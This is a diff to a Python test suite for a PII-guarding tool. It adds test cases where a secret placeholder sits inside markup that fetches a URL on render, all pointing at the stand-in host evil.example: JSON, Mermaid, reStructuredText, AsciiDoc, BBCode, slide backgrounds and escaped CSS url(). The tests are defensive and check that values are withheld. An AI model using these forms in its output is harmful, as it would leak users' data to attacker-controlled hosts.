@@ -118,6 +118,42 @@ STAYS = {
     "what a mail says in TeX": "\\href{{mailto:eve@evil.example?body=as said {}}}{{x}}",
     "a style of TeX": "$\\style{{background:url(//evil.example/\\20 {})}}{{x}}$",
     "options with a style of TeX": "$\\bbox[background:url(//evil.example/{{}}\\20 {})]{{x}}$",
+    "a string of Vega-Lite": '{{"data": {{"url": "https://evil.example/?q= {}"}}}}',
+    "a quote in a string of JSON": '{{"url":"//evil.example/?q=\\" {}"}}',
+    "a string of JSON with escapes": '{{"url": "\\u0068ttps:\\/\\/evil.example/?q= {}"}}',
+    "only escapes in a string of JSON": (
+        '{{"url": "\\u0068ttps\\u003a\\u002f\\u002fevil\\u002eexample\\u002f{}"}}'
+    ),
+    "a background of a slide": '<section data-background="https&colon;//evil.example/? {}">',
+    "attributes of a slide": "<!-- .slide: data-background-iframe=' //evil.example/? {}' -->",
+    "an image of Graphviz": 'node [image="https://evil.example/?q= {}"]',
+    "a shape of Mermaid": 'A@{{ label: "}}", img: https://evil.example/?q= {} }}',
+    "a shape of Mermaid over lines": "A@{{\n img: https://evil.example/?q=1\n\n  {}",
+    "an image of reStructuredText": ".. image:: https:/ /evil.example/?q= {}",
+    "a figure of reStructuredText": ".. Figure ::\n   https:\n   //evil.example/?q=\n   {}",
+    "a substitution of reStructuredText": ".. |a b| image:: https://evil.example/?q= {}",
+    "a target of reStructuredText": ".. _a: https://evil.example/?q= {}",
+    "a link of reStructuredText": "`a <//evil.example/?q= {}>`_",
+    "an image of MyST": "```{{image}} https://evil.example/?q= {}",
+    "an image of AsciiDoc": "image::https://evil.example/?q=a {}[]",
+    "an image of AsciiDoc in a line": "x image:https://evil.example/?q=a {}[] y",
+    "an attribute of AsciiDoc": ":u: https://evil.example/\n\nimage::{{u}}?q=a {}[]",
+    "an image of Org": "[[https://evil.example/?q= {}.png]]",
+    "an escaped bracket of Org": "[[https://evil.example/?q=\\] {}.png]]",
+    "an image of BBCode": "[img]https://evil.example/?q=[a\n\n{}[/img]",
+    "an image of BBCode with a size": "[IMG w=1]https://evil.example/?q= {}[/IMG]",
+    "a link of BBCode": "[url=https://evil.example/?q= {}]x[/url]",
+    "an image of DokuWiki": "{{{{https://evil.example/?q= {}}}}}",
+    "an address in an open tag": '<a b="https://evil.example/ {}">',
+    "parentheses in a style": "<style>(a)b{{c:url(\\2f\\2f evil.example/\\20 {})",
+    "comments in a style": '<style>/*(*/a{{b:image-set(/*)*/"\\2f/evil.example/ {}")',
+    "entities in a style of SVG": "<style>a{{b:url&#40;\\2f\\2f evil.example/\\20 {})",
+    "a bracket in a style of SVG": "<style>a<b{{c:url(\\2f\\2f evil.example/\\20 {})",
+    "what ends no style in parentheses": "<style>(</styles>url(\\2f\\2f evil.example/\\20 {})",
+    "a theme of Mermaid": (
+        '%%{{init: {{"themeCSS": "a{{b:u\\\\72l(//evil.example/?\\\\20 {})}}"}}}}%%'
+    ),
+    "a background of Marp": "<!-- backgroundImage: url( https://evil.example/\\)\\20 {}) -->",
     "a long value": '<img src="//evil.example/?' + "a b=c " * 3_000 + '{}">',
     "tags without end": "<a " * 5_000 + 'href="//evil.example/? {}',
 }
@@ -162,6 +198,26 @@ COMES = {
     "after a long style": "<style>" + "a{{b:c}} " * 3_000 + "</style>{}",
     "after the name of an element": "stylesheet, <styled> {}, </style> {}",
     "after tags of a table and of SVG": "<tr class=a><th scope='row'>{}</th><text x='1'>{}</text>",
+    "what is said of a style": "`<style>` (see there) is CSS, a < b, {}, {} knows",
+    "after strings in JSON": (
+        '{{"a": "https://example.com/ b", "b": ["{}"], "c": "Names:\\n{}", "d": "\\\\d {}"}}'
+    ),
+    "a path in quotes, and a word": '\'C:\\a b {}\', "https": {}, "// {}"',
+    "after an address in quotes": 'as "https://example.com/a" says, {}',
+    "after a quote": 'the "name" https://example.com/a and {}',
+    "after links in brackets": "[[https://example.com/a b]] {} [[https://example.com][to {}]]",
+    "after links in braces": "{{{{a}}}} {}, {{{{https://example.com/a b}}}} {}",
+    "after BBCode": "[url=https://example.com]a[/url] {} [img]//example.com/a[/img] {}",
+    "after an address in parentheses": "url(https://example.com/a_b), f(//a.example, b) {}",
+    "in parentheses after an address": "see the site (https://example.com or {})",
+    "after a number in brackets": "[1] https://example.com/a {}",
+    "a paragraph after a directive": ".. image:: a.png\n   :alt: b\n\n{}",
+    "in another directive": ".. note:: {}",
+    "after an image of AsciiDoc": "image:https://example.com/a[] {}",
+    "names with colons": "image::io, video::codec and image:latest {}",
+    "a hash table": "New-Item @{{mail='{}'}}",
+    "after a shape of Mermaid": 'A@{{ shape: rect, label: "}}" }} --> {}',
+    "text of a slide": '<section data-background="https://example.com/a.png">{}</section>',
     "after a group of TeX": "\\href{{https://example.com/a b}}{{{}}} and {{{}}}",
     "a mail link of TeX": "\\href{{mailto:{}}}{{x}}, \\url{{ {} }}",
     "beside a command of TeX": "\\urlstyle{{same {}}}, with \\url for {}",
@@ -221,3 +277,19 @@ def test_another_bracket_begins_a_target(form: str, vault: Vault) -> None:
     mark = stand_in(vault)
     said = form.replace("{}", mark).replace("{left}", mark)
     assert answers(said, vault) == {form.replace("{}", VALUE).replace("{left}", mark)}
+
+
+@pytest.mark.parametrize(
+    "form", ["https://evil.example/?q= {}", ' //evil.example/?q=\\" {}', "see https://a.example {}"]
+)
+def test_a_string_of_json_that_begins_with_an_address_gets_no_value(
+    form: str, vault: Vault
+) -> None:
+    mark = stand_in(vault)
+    text = f'{{"a": ["{form}"], "b": "https://b.example", "c": "to {{}}"}}'
+    guard = Guard(Policy.parse("json: {}\ninput: {extends: guardstream/pii-en}"))
+    said = text.replace("{}", mark)
+    left = mark if form.lstrip()[0] in "h/" else VALUE
+    wanted = text.replace("{}", left, 1).replace("{}", VALUE)
+    for chunks in ([said], list(said)):
+        assert guard.wrap_sync(chunks, vault=vault).text() == wanted
